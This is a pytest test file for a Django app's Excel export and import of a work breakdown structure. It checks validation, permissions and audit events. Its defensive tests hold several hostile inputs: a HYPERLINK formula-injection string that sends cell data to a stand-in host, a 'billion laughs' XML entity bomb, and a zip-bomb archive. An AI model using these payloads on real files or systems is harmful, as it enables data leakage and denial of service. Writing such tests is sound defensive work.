"""Excel export and all-or-nothing import of the WBS (progress/wbs_excel.py and its pages)."""

import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from shinrai.core.models import AuditEvent
from shinrai.progress import selectors, services, wbs_excel
from shinrai.progress.models import Task
from shinrai.requirements import services as requirement_services

FIRST = wbs_excel.FIRST_ROW  # row 3 holds the column titles
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADERS_JA = [
    "WBSコード", "タスク名", "担当者", "開始予定", "終了予定", "見積(時間)", "実績(時間)", "進捗(%)", "状態",
    "マイルストーン", "要件ID", "公開範囲",
]  # fmt: skip
HEADERS_EN = [
    "WBS code", "Task", "Owner (e-mail)", "Planned start", "Planned finish", "Estimate (h)", "Actual (h)",
    "Progress (%)", "Status", "Milestone", "Requirement IDs", "Visible to",
]  # fmt: skip
COLUMN = {key: index for index, key in enumerate("ABCDEFGHIJKL")}  # letters, for readability below
FORBIDDEN_XML = (
    "The file contains XML declarations (DOCTYPE or ENTITY) that are not allowed in an Excel file."
)


@pytest.fixture(autouse=True)
def _english():
    # Messages are asserted in English (the Japanese catalogue is completed separately).
    with translation.override("en"):
        yield


@pytest.fixture
def plan(cast, make_task, make_milestone):
    """1 要件定義 (summary) › 1.1 業務ヒアリング, 1.2 要件定義書作成 (vendor only); 2 基本設計."""
    pm = cast.users["vendor_pm"]
    milestone = make_milestone("要件定義完了")
    first = requirement_services.requirement_create(by=pm, project=cast.own, text="在庫一覧を2秒以内に表示")
    second = requirement_services.requirement_create(by=pm, project=cast.own, text="帳票をPDFで出力する")
    withdrawn = requirement_services.requirement_create(by=pm, project=cast.own, text="旧要件")
    requirement_services.requirement_withdraw(by=pm, requirement=withdrawn)
    top = make_task("要件定義", visibility="customer")
    hearing = make_task(
        "業務ヒアリング",
        parent=top,
        owner=cast.users["vendor_member"],
        planned_start=date(2026, 5, 1),
        planned_finish=date(2026, 5, 8),
        estimate_hours=Decimal("24"),
        milestone=milestone,
        requirements=[first, second],
    )
    services.task_update_progress(by=pm, task=hearing, progress=50, actual_hours=Decimal("10.5"))
    document = make_task(
        "要件定義書作成",
        parent=top,
        planned_start=date(2026, 5, 11),
        planned_finish=date(2026, 5, 15),
        estimate_hours=Decimal("16"),
        visibility="internal",
    )
    design = make_task("基本設計", planned_start=date(2026, 6, 1), estimate_hours=Decimal("40"))
    return {"top": top, "hearing": hearing, "document": document, "design": design, "req": first}


def export(cast, *, role="vendor_pm", language="ja") -> bytes:
    return wbs_excel.export_wbs(user=cast.users[role], project=cast.own, language=language)


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def to_bytes(book: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def run_import(cast, data, *, role="vendor_pm"):
    return wbs_excel.import_wbs(user=cast.users[role], project=cast.own, file=data, language="ja")


def edited(cast, edit, **export_args) -> bytes:
    book = workbook(export(cast, **export_args))
    edit(book["WBS"])
    return to_bytes(book)


def state(project) -> list:
    """Everything an import could change, to assert that a refused import changed nothing."""
    tasks = [
        (
            t.pk, t.parent_id, t.position, t.name, t.owner_id, t.planned_start, t.planned_finish,
            t.estimate_hours, t.actual_hours, t.progress, t.status, t.milestone_id, t.visibility,
            t.completed_at, t.updated_at, sorted(r.pk for r in t.requirements.all()),
        )
        for t in Task.objects.filter(project=project).order_by("pk").prefetch_related("requirements")
    ]  # fmt: skip
    return [tasks, AuditEvent.objects.count()]


def codes(cast) -> list[tuple[str, str]]:
    return [
        (row.code, row.task.name) for row in selectors.wbs_for(user=cast.users["vendor_pm"], project=cast.own)
    ]


def issues(result) -> list[tuple]:
    return [(e.row, e.column, e.message) for e in result.errors]


# --- Export ----------------------------------------------------------------------------------------------


def test_export_is_a_wbs_sheet_japanese_teams_know(cast, plan):
    book = workbook(export(cast))
    assert book.sheetnames == ["WBS", "選択肢"]
    assert book["選択肢"].sheet_state == "hidden"
    ws = book["WBS"]
    assert ws["A1"].value == "WBS　OWN-1　自社案件"
    assert (ws["A2"].value, ws["B2"].value, ws["C2"].value) == ("案件コード", "OWN-1", "出力日時")
    assert datetime.strptime(ws["D2"].value, "%Y-%m-%d %H:%M (JST)").year >= 2025
    assert [c.value for c in ws[3]] == HEADERS_JA
    assert ws.freeze_panes == "C4"
    assert ws.auto_filter.ref == "A3:L7"
    assert ws.column_dimensions["B"].width == 48
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=FIRST)]
    # The summary's figures are rolled up: estimate 24 + 16, actual 10.5, progress (24×50)/40 = 30 %.
    may1, may8, may11, may15 = (datetime(2026, 5, day) for day in (1, 8, 11, 15))
    assert rows == [
        ["1", "要件定義", None, may1, may15, 40, 10.5, 30, "進行中", None, None, "社内とお客様"],
        ["1.1", "業務ヒアリング", "vendor_member@example.jp", may1, may8, 24, 10.5, 50, "進行中",
         "要件定義完了", "REQ-001, REQ-002", "社内とお客様"],
        ["1.2", "要件定義書作成", None, may11, may15, 16, 0, 0, "未着手", None, None, "社内限定"],
        ["2", "基本設計", None, datetime(2026, 6, 1), None, 40, 0, 0, "未着手", None, None, "社内とお客様"],
    ]  # fmt: skip
    # Real dates, indented names, summaries bold and grey where figures are computed.
    assert ws["D5"].is_date and ws["D5"].number_format == "yyyy/mm/dd"
    assert (ws["B4"].alignment.indent, ws["B5"].alignment.indent, ws["B7"].alignment.indent) == (0, 1, 0)
    assert ws["B4"].font.bold and not ws["B5"].font.bold
    assert ws["F4"].fill.fgColor.rgb.endswith("EDEDED") and ws["F5"].fill.fill_type is None
    assert ws["A5"].number_format == "@"  # codes stay text (1.10 is not 1.1)
    validations = {str(v.sqref): v.formula1 for v in ws.data_validations.dataValidation}
    assert validations == {
        "I4:I10003": "'選択肢'!$A$1:$A$4",
        "L4:L10003": "'選択肢'!$B$1:$B$3",
        "J4:J10003": "'選択肢'!$C$1:$C$1",
    }
    assert [c.value for c in book["選択肢"]["A"]] == ["未着手", "進行中", "完了", "保留"]


def test_export_in_english_for_english_readers(cast, plan):
    ws = workbook(export(cast, language="en"))["WBS"]
    assert [c.value for c in ws[3]] == HEADERS_EN
    assert (ws["A2"].value, ws["C2"].value) == ("Project code", "Exported at")
    assert (ws["I5"].value, ws["L6"].value, ws["L5"].value) == (
        "In progress",
        "Vendor only",
        "Vendor and customer",
    )


def test_page_exports_in_the_users_language(client, cast, plan):
    cast.users["vendor_member"].language = "en"
    cast.users["vendor_member"].save(update_fields=["language"])
    client.force_login(cast.users["vendor_member"])
    response = client.get(reverse("progress:wbs_export", args=[cast.own.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].startswith('attachment; filename="OWN-1-wbs-')
    assert [c.value for c in workbook(response.content)["WBS"][3]] == HEADERS_EN


def test_export_keeps_formula_like_text_as_text(cast, make_task, make_milestone):
    dangerous = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    make_milestone("+81 連絡")
    make_task(dangerous, milestone=cast.own.milestones.get())
    make_task("@SUM(1)")
    make_task("-1 日目の準備")
    data = export(cast)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"{name} contains a formula"
    ws = workbook(data)["WBS"]
    cells = [ws["B4"], ws["J4"], ws["B5"], ws["B6"]]
    assert [c.value for c in cells] == [dangerous, "+81 連絡", "@SUM(1)", "-1 日目の準備"]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not ws["L4"].quotePrefix  # ordinary text keeps the ordinary style
    # The text is unchanged, so the file imports back without changes.
    result = run_import(cast, data)
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 0, 0, 3)


@pytest.mark.parametrize(
    "role", ["customer_sponsor", "partner_viewer", "outsider_customer", "other_vendor_manager"]
)
def test_export_is_for_vendor_roles_only(cast, plan, role):
    with pytest.raises(PermissionDenied):
        export(cast, role=role)


# --- Import: round trip, updates, new tasks -----------------------------------------------------------


def test_unchanged_file_imports_with_no_changes(cast, plan):
    before = state(cast.own)
    result = run_import(cast, export(cast))
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 0, 0, 4)
    tasks, audit_count = state(cast.own)
    assert tasks == before[0]  # nothing duplicated, nothing touched (not even updated_at)
    assert audit_count == before[1] + 1
    event = AuditEvent.objects.filter(action="task.import").get()
    assert (event.actor, event.project) == (cast.users["vendor_pm"], cast.own)
    assert event.after == {"created": 0, "updated": 0, "unchanged": 4, "narrowed_subtasks": 0}


def test_english_file_imports_for_a_japanese_reader(cast, plan):
    result = run_import(cast, export(cast, language="en"))
    assert (result.errors, result.unchanged) == ([], 4)


def test_edited_row_updates_that_task_with_the_services_audit_events(cast, plan):
    def edit(ws):
        ws["B5"] = "業務ヒアリング（現場）"
        ws["C5"] = "VENDOR_PM@example.jp"  # e-mail case does not matter
        ws["E5"] = "2026/5/12"  # a date typed as text
        ws["G5"] = 12
        ws["H5"] = 80
        ws["K5"] = "REQ-1"

    result = run_import(cast, edited(cast, edit))
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 0, 1, 3)
    hearing = Task.objects.get(pk=plan["hearing"].pk)
    assert (hearing.name, hearing.owner, hearing.planned_finish, hearing.actual_hours, hearing.progress) == (
        "業務ヒアリング（現場）", cast.users["vendor_pm"], date(2026, 5, 12), Decimal("12.00"), 80,
    )  # fmt: skip
    assert [r.ref for r in hearing.requirements.all()] == ["REQ-001"]
    update = AuditEvent.objects.get(action="task.update", object_id=str(hearing.pk))
    assert update.before == {
        "name": "業務ヒアリング", "owner": str(cast.users["vendor_member"]), "planned_finish": "2026-05-08",
        "requirements": "REQ-001, REQ-002",
    }  # fmt: skip
    assert update.after == {
        "name": "業務ヒアリング（現場）", "owner": str(cast.users["vendor_pm"]),
        "planned_finish": "2026-05-12", "requirements": "REQ-001",
    }  # fmt: skip
    progress = AuditEvent.objects.filter(action="task.progress", object_id=str(hearing.pk)).latest("id")
    assert (progress.before, progress.after) == (
        {"progress": 50, "actual_hours": "10.50"}, {"progress": 80, "actual_hours": "12.00"},
    )  # fmt: skip


def test_new_codes_create_tasks_in_place(cast, plan):
    def edit(ws):
        ws.append(
            ["1.3", "要件レビュー", "vendor_member@example.jp", date(2026, 5, 18), date(2026, 5, 19), 8]
        )
        ws.append(["3", "詳細設計", None, None, None, None, None, None, None, None, None, "社内限定"])
        ws.append(["3.1", "画面詳細設計", None, "2026-07-01", "2026-07-10", 30, 3, 10])
        ws.append(["2.1", "方式設計", None, None, None, 20, None, 100, "完了"])

    result = run_import(cast, edited(cast, edit))
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 4, 0, 4)
    assert codes(cast) == [
        ("1", "要件定義"), ("1.1", "業務ヒアリング"), ("1.2", "要件定義書作成"), ("1.3", "要件レビュー"),
        ("2", "基本設計"), ("2.1", "方式設計"), ("3", "詳細設計"), ("3.1", "画面詳細設計"),
    ]  # fmt: skip
    review = Task.objects.get(name="要件レビュー")
    assert (review.parent, review.owner, review.estimate_hours, review.status, review.visibility) == (
        plan["top"], cast.users["vendor_member"], Decimal("8.00"), "not_started", "customer",
    )  # fmt: skip
    detailed = Task.objects.get(name="画面詳細設計")
    # A new task without a visibility gets its parent's; progress without a status means in progress.
    assert (detailed.parent.name, detailed.visibility, detailed.progress, detailed.status) == (
        "詳細設計", "internal", 10, "in_progress",
    )  # fmt: skip
    done = Task.objects.get(name="方式設計")
    assert (done.status, done.progress, done.completed_at is not None) == ("done", 100, True)
    create = AuditEvent.objects.get(action="task.create", object_id=str(detailed.pk))
    assert create.after == {
        "name": "画面詳細設計", "parent": "詳細設計", "owner": None, "planned_start": "2026-07-01",
        "planned_finish": "2026-07-10", "estimate_hours": "30.00", "milestone": None,
        "visibility": "internal", "position": 0, "requirements": "",
    }  # fmt: skip
    progress = AuditEvent.objects.get(action="task.progress", object_id=str(detailed.pk))
    assert (progress.before, progress.after) == (
        {"progress": 0, "actual_hours": "0", "status": "not_started"},
        {"progress": 10, "actual_hours": "3.00", "status": "in_progress"},
    )
    # Importing the new export changes nothing: the codes of the new tasks are stable.
    again = run_import(cast, export(cast))
    assert (again.errors, again.created, again.updated, again.unchanged) == ([], 0, 0, 8)


def test_cells_of_a_task_with_sub_tasks_are_not_read(cast, plan):
    """基本設計 gets a sub-task: from then on its dates, hours, progress and status are computed."""

    def edit(ws):
        ws["F4"], ws["H4"], ws["I4"] = "四十", 999, "謎"  # summary 1: not read, so no error either
        ws["F7"], ws["H7"] = 99, 40  # 2 becomes a summary in this very file
        ws.append(["2.1", "方式設計", None, None, None, 20])

    result = run_import(cast, edited(cast, edit))
    assert (result.errors, result.created, result.updated, result.unchanged) == ([], 1, 0, 4)
    design = Task.objects.get(pk=plan["design"].pk)
    assert (design.estimate_hours, design.progress) == (Decimal("40.00"), 0)


def test_owner_who_left_the_project_stays_on_an_unchanged_row(cast, plan):
    member = cast.users["vendor_member"]
    member.is_active = False
    member.save(update_fields=["is_active"])
    result = run_import(cast, export(cast))
    assert (result.errors, result.unchanged) == ([], 4)


def test_narrowing_a_task_narrows_its_sub_tasks_not_in_the_file(cast, plan):
    def edit(ws):
        ws["L4"] = "社内限定"
        ws.delete_rows(5)  # 1.1 is left out of the file

    result = run_import(cast, edited(cast, edit))
    assert (result.errors, result.updated, result.unchanged) == ([], 1, 2)
    assert Task.objects.get(pk=plan["hearing"].pk).visibility == "internal"
    update = AuditEvent.objects.get(action="task.update", object_id=str(plan["top"].pk))
    assert update.after == {"visibility": "internal", "narrowed_subtasks": 1}


def test_uploaded_file_is_accepted(cast, plan):
    upload = SimpleUploadedFile("WBS.xlsx", export(cast), content_type=XLSX)
    result = wbs_excel.import_wbs(user=cast.users["vendor_member"], project=cast.own, file=upload)
    assert (result.errors, result.unchanged) == ([], 4)


def test_columns_may_be_left_out_and_titles_in_either_language(cast, plan):
    def edit(ws):
        ws.delete_cols(10, 3)  # マイルストーン, 要件ID, 公開範囲: kept as they are
        ws["A3"], ws["B3"], ws["H3"] = "WBS code", "作業名", "進捗 / Progress (%)"
        ws["H5"] = "70%"

    result = run_import(cast, edited(cast, edit))
    assert (result.errors, result.updated, result.unchanged) == ([], 1, 3)
    hearing = Task.objects.get(pk=plan["hearing"].pk)
    assert (hearing.progress, hearing.milestone.name, hearing.requirements.count()) == (70, "要件定義完了", 2)


def test_queries_do_not_grow_with_the_rows(cast, plan, make_task):
    def queries(data) -> int:
        with CaptureQueriesContext(connection) as captured:
            result = run_import(cast, data)
        assert result.errors == []
        return len(captured)

    small = queries(export(cast))
    for n in range(20):
        make_task(f"追加タスク{n}", parent=plan["design"], requirements=[plan["req"]])
    assert queries(export(cast)) == small  # an unchanged file: reading and checking only


def test_milestone_names_must_say_which_one(cast, plan, make_milestone):
    make_milestone("要件定義完了")  # a second one with the same name
    make_milestone("設計完了")

    def edit(ws):
        ws["J6"] = "要件定義完了"  # which one? refused
        ws["J7"] = "設計完了"

    result = run_import(cast, edited(cast, edit))
    assert issues(result) == [
        (6, "マイルストーン", "Several milestones are named “要件定義完了”: rename one of them first."),
    ]
    # 1.1 is linked to one of the two already: keeping it needs no choice.
    result = run_import(cast, edited(cast, lambda ws: ws.__setitem__("J7", "設計完了")))
    assert (result.errors, result.updated) == ([], 1)
    assert Task.objects.get(pk=plan["design"].pk).milestone.name == "設計完了"


def test_errors_come_in_the_users_language(cast, plan):
    data = edited(cast, lambda ws: ws.__setitem__("I5", "中止"))
    with translation.override("ja"):
        (error,) = wbs_excel.import_wbs(user=cast.users["vendor_pm"], project=cast.own, file=data).errors
        assert (
            str(error) == "WBS 5行目 状態: 「中止」は 未着手 / 進行中 / 完了 / 保留 のいずれでもありません。"
        )
    with translation.override("en"):
        (error,) = wbs_excel.import_wbs(user=cast.users["vendor_pm"], project=cast.own, file=data).errors
        assert (
            str(error) == "WBS row 5 状態: “中止” is not one of: Not started / In progress / Done / On hold."
        )


# --- Import: refused rows and files; nothing written -------------------------------------------------


@pytest.fixture
def refused(cast, plan):
    """Import a modified export, check that nothing changed, return the (row, column, message) list."""

    def run(edit=None, *, data=None):
        if data is None:
            data = edited(cast, edit)
        before = state(cast.own)
        result = run_import(cast, data)
        assert (result.created, result.updated, result.unchanged) == (0, 0, 0)
        assert state(cast.own) == before
        return issues(result)

    return run


def test_bad_codes_are_reported(refused):
    def edit(ws):
        ws["A7"] = "1.1"  # 基本設計 takes 1.1's code
        ws.append(["5.1", "親のないタスク"])
        ws.append(["1.5", "番号が飛んだタスク"])
        ws.append(["1.a", "記号"])
        ws.append([2.1, "数値になったコード"])
        ws.append(["0.1", "ゼロ"])
        ws.append([None, "コードなし"])

    assert refused(edit) == [
        (7, "WBSコード", "1.1 appears more than once (first on row 5)."),
        (8, "WBSコード", "The parent task 5 is neither in the file nor in the WBS."),
        (9, "WBSコード", "1.5 leaves a gap: 1.3 is neither in the file nor in the WBS. "
                         "Number the tasks of one level 1, 2, 3 … without gaps."),
        (10, "WBSコード", "“1.a” is not a WBS code. Use numbers joined by dots: 1, 1.2, 1.2.3 …"),
        (11, "WBSコード", "Excel turned this code into a number (1.10 becomes 1.1). "
                          "Format the column as text and type the code again."),
        (12, "WBSコード", "WBS codes count from 1: “0.1” has a 0."),
        (13, "WBSコード", "Enter the WBS code (1, 1.2, 1.2.3 …)."),
    ]  # fmt: skip


def test_bad_values_are_reported_per_cell(cast, refused):
    def edit(ws):
        ws["B5"] = "  "
        ws["C5"] = "customer_sponsor@example.jp"  # not a vendor member
        ws["D5"], ws["E5"] = date(2026, 5, 20), "2026/5/1"  # finish before start
        ws["F5"], ws["G5"], ws["H5"] = -1, "七時間", 120
        ws["J5"], ws["K5"] = "存在しないMS", "REQ-001, REQ-099, REQ-003, 要件7"
        ws["B6"] = "長" * 201
        ws["D6"], ws["H6"], ws["I6"] = "来週", 33.3, "中止"
        ws["I7"], ws["H7"] = "完了", 50  # done must be 100 %
        ws["L7"] = "全社"

    assert refused(edit) == [
        (5, "タスク名", "Enter the task name."),
        (5, "担当者", "customer_sponsor@example.jp is not a vendor member of this project. "
                      "Choose one of them as the owner."),
        (5, "終了予定", "The planned finish cannot be before the planned start."),
        (5, "見積(時間)", "Hours cannot be negative."),
        (5, "実績(時間)", "Enter a number of hours, for example 7.5."),
        (5, "進捗(%)", "Enter a progress between 0 and 100 %."),
        (5, "マイルストーン", "This project has no milestone named “存在しないMS”."),
        (5, "要件ID", "REQ-099 does not exist in this project."),
        (5, "要件ID", "REQ-003 has been withdrawn: link tasks only to requirements in force."),
        (5, "要件ID", "“要件7” is not a requirement ID. Use IDs like REQ-012."),
        (6, "タスク名", "At most 200 characters (this has 201)."),
        (6, "開始予定", "Enter a date, for example 2026/05/01."),
        (6, "進捗(%)", "Enter a whole percent (no decimals)."),
        (6, "状態", "“中止” is not one of: 未着手 / 進行中 / 完了 / 保留."),
        (7, "進捗(%)", "A finished task must be complete (100 percent)."),
        (7, "公開範囲", "“全社” is not one of: 社内限定 / 社内とお客様 / 社内・お客様・協力会社."),
    ]  # fmt: skip


def test_sub_task_wider_than_its_parent_is_refused(refused):
    def edit(ws):
        ws["L4"] = "社内限定"  # 1 narrowed, while 1.1 in the file stays shared with the customer
        ws.append(
            [
                "1.2.1",
                "章立て",
                None,
                None,
                None,
                None,
                None,
                None,
                None,
                None,
                None,
                "社内・お客様・協力会社",
            ]
        )

    assert refused(edit) == [
        (5, "公開範囲", "A sub-task cannot be shared more widely than its parent task (1: 社内限定)."),
        (8, "公開範囲", "A sub-task cannot be shared more widely than its parent task (1.2: 社内限定)."),
    ]


def test_too_long_cells_and_wrong_types_are_reported(refused):
    def edit(ws):
        ws["C5"] = "a" * 1001 + "@example.jp"
        ws["B6"] = datetime(2026, 4, 1)
        ws["J6"] = True

    assert refused(edit) == [
        (5, "担当者", "At most 1000 characters (this has 1012)."),
        (6, "タスク名", "Enter text or a number here, not a date, a time or TRUE/FALSE."),
        (6, "マイルストーン", "Enter text or a number here, not a date, a time or TRUE/FALSE."),
    ]


def test_one_bad_row_keeps_every_good_row_out(cast, refused):
    def edit(ws):
        ws["H5"] = 90  # good
        ws.append(["3", "新しいタスク"])  # good
        ws["F6"] = "たくさん"  # bad

    assert refused(edit) == [(6, "見積(時間)", "Enter a number of hours, for example 7.5.")]
    assert not Task.objects.filter(name="新しいタスク").exists()


def test_header_problems_are_reported(refused):
    def edit(ws):
        ws["M3"], ws["M4"] = "備考", "メモ"
        ws["O5"] = "見出しなし"
        ws["C3"] = "タスク名"
        ws.delete_cols(1)  # no WBS code column

    assert refused(edit) == [
        (3, "タスク名", "This column appears more than once."),
        (3, "備考", "Unknown column. Remove it or correct its title."),
        (3, "WBSコード", "This column is missing."),
        (5, "N", "This column has values but no title."),
    ]


def test_missing_titles_and_a_file_of_another_project_are_refused(cast, refused):
    assert refused(lambda ws: ws.delete_rows(3)) == [
        (None, "", "The column titles were not found. Keep the title row of the exported file "
                   "(for example “WBSコード”)."),
    ]  # fmt: skip

    def other_project(ws):
        ws["B2"] = "OTHER-1"

    assert refused(other_project) == [(2, "案件コード", "This file is for project OTHER-1, not OWN-1.")]


def test_bytes_that_are_not_xlsx_are_refused(refused):
    assert refused(data=b"WBS,Task\n1,Design\n") == [(None, "", "This is not an Excel file (.xlsx).")]
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)  # an old .xls or a password-protected .xlsx
    assert refused(data=ole) == [
        (None, "", "The file is password-protected or in the old .xls format. "
                   "Save it as an .xlsx file without a password."),
    ]  # fmt: skip


def test_oversized_file_is_refused_before_it_is_read(refused):
    class Upload(io.BytesIO):
        size = 5 * 1024 * 1024 + 1

        def read(self, *args):
            raise AssertionError("an oversized upload must not be read")

    assert refused(data=Upload(b"")) == [
        (None, "", "The file is larger than 5 MB. Split it into smaller files.")
    ]


def test_too_many_rows_are_refused(cast, refused, monkeypatch):
    monkeypatch.setattr(wbs_excel, "MAX_ROWS", 6)

    def edit(ws):
        for n in range(3, 6):
            ws.append([str(n), f"タスク{n}"])

    assert refused(edit) == [(None, "", "The sheet “WBS” has more than 6 rows. Split the file.")]
    # Exactly the limit is accepted.
    data = edited(cast, lambda ws: [ws.append([str(n), f"タスク{n}"]) for n in (3, 4)])
    assert run_import(cast, data).created == 2


BILLION_LAUGHS = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE worksheet [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="3"><c r="A3" t="inlineStr"><is><t>WBSコード</t></is></c>
<c r="B3" t="inlineStr"><is><t>&c;</t></is></c></row>
</sheetData></worksheet>""".encode()


def rewrite(data: bytes, member: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    target_buffer = io.BytesIO()
    with zipfile.ZipFile(target_buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, content if info.filename == member else source.read(info.filename))
    return target_buffer.getvalue()


def test_xml_entities_are_refused(cast, refused):
    assert refused(data=rewrite(export(cast), "xl/worksheets/sheet1.xml", BILLION_LAUGHS)) == [
        (None, "", FORBIDDEN_XML)
    ]
    # UTF-16 hides the DOCTYPE from the byte scan; defusedxml refuses it while parsing.
    utf16 = BILLION_LAUGHS.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert refused(data=rewrite(export(cast), "xl/worksheets/sheet1.xml", utf16)) == [
        (None, "", FORBIDDEN_XML)
    ]


def test_zip_bomb_is_refused(cast, refused):
    filler = b"<!-- " + b" " * (50 * 1024 * 1024 + 1) + b" -->"
    bomb = rewrite(export(cast), "xl/worksheets/sheet2.xml", filler)
    assert len(bomb) < 5 * 1024 * 1024
    assert refused(data=bomb) == [
        (None, "", "The file unpacks to more data than an Excel file of this size can hold.")
    ]


def test_damaged_file_is_refused(cast, refused):
    data = export(cast)
    damaged = "The file is damaged and cannot be read. Save it again in Excel and retry."
    assert refused(data=data[: len(data) // 2]) == [(None, "", damaged)]
    broken = rewrite(data, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row r='1'>")
    assert refused(data=broken) == [(None, "", damaged)]


@pytest.mark.parametrize(
    "role",
    ["customer_sponsor", "customer_member", "partner_viewer", "other_vendor_manager", "outsider_customer"],
)
def test_only_vendor_contributors_may_import(cast, plan, role):
    data = export(cast)
    before = state(cast.own)
    with pytest.raises(PermissionDenied):
        run_import(cast, data, role=role)
    assert state(cast.own) == before


# --- Pages ------------------------------------------------------------------------------------------------


@pytest.fixture
def english(cast):
    """Users who read English: the pages' assertions hold whatever the Japanese catalogue says."""
    for key in ("vendor_pm", "vendor_member"):
        cast.users[key].language = "en"
        cast.users[key].save(update_fields=["language"])
    return cast


def _import_url(cast, project=None):
    return reverse("progress:wbs_import", args=[(project or cast.own).pk])


def test_import_page_says_what_happens_and_saves(client, cast, plan, english):
    client.force_login(cast.users["vendor_member"])
    page = client.get(_import_url(cast)).content.decode()
    assert "Tasks that are not in the file are left as they are" in page
    assert reverse("progress:wbs_export", args=[cast.own.pk]) in page
    data = edited(cast, lambda ws: ws.append(["3", "結合テスト"]))
    response = client.post(_import_url(cast), {"file": SimpleUploadedFile("wbs.xlsx", data)}, follow=True)
    assert response.redirect_chain[-1][0] == reverse("progress:wbs", args=[cast.own.pk])
    assert "Imported: 1 added, 0 changed, 4 unchanged. Tasks not in the file were left as they were." in (
        response.content.decode()
    )
    assert Task.objects.filter(project=cast.own, name="結合テスト").count() == 1


def test_import_page_lists_the_errors_by_row_and_column(client, cast, plan, english):
    client.force_login(cast.users["vendor_pm"])
    before = state(cast.own)
    data = edited(cast, lambda ws: ws.__setitem__("H5", 150))
    response = client.post(_import_url(cast), {"file": SimpleUploadedFile("wbs.xlsx", data)})
    assert response.status_code == 200
    page = response.content.decode()
    assert "Nothing was changed." in page
    assert "<td>WBS</td><td>5</td><td>進捗(%)</td><td>Enter a progress between 0 and 100 %.</td>" in page
    assert state(cast.own) == before


def test_import_without_a_file_asks_for_one(client, cast, plan, english):
    client.force_login(cast.users["vendor_pm"])
    response = client.post(_import_url(cast), {})
    assert response.status_code == 200
    assert "This field is required." in response.content.decode()


def test_wbs_page_offers_export_and_import_to_the_right_roles(client, cast, plan):
    client.force_login(cast.users["vendor_member"])
    page = client.get(reverse("progress:wbs", args=[cast.own.pk])).content.decode()
    assert reverse("progress:wbs_export", args=[cast.own.pk]) in page
    assert _import_url(cast) in page


@pytest.mark.parametrize("role", ["customer_sponsor", "customer_member", "partner_viewer"])
def test_customers_and_partners_get_404_like_the_wbs_page(client, cast, plan, role):
    client.force_login(cast.users[role])
    data = export(cast)
    assert client.get(reverse("progress:wbs", args=[cast.own.pk])).status_code == 404
    assert client.get(reverse("progress:wbs_export", args=[cast.own.pk])).status_code == 404
    assert client.get(_import_url(cast)).status_code == 404
    before = state(cast.own)
    response = client.post(_import_url(cast), {"file": SimpleUploadedFile("wbs.xlsx", data)})
    assert response.status_code == 404
    assert state(cast.own) == before


def test_another_project_is_404(client, cast, plan):
    client.force_login(cast.users["vendor_pm"])
    assert client.get(reverse("progress:wbs_export", args=[cast.other.pk])).status_code == 404
    response = client.post(
        _import_url(cast, cast.other), {"file": SimpleUploadedFile("wbs.xlsx", export(cast))}
    )
    assert response.status_code == 404
    assert not Task.objects.filter(project=cast.other).exists()
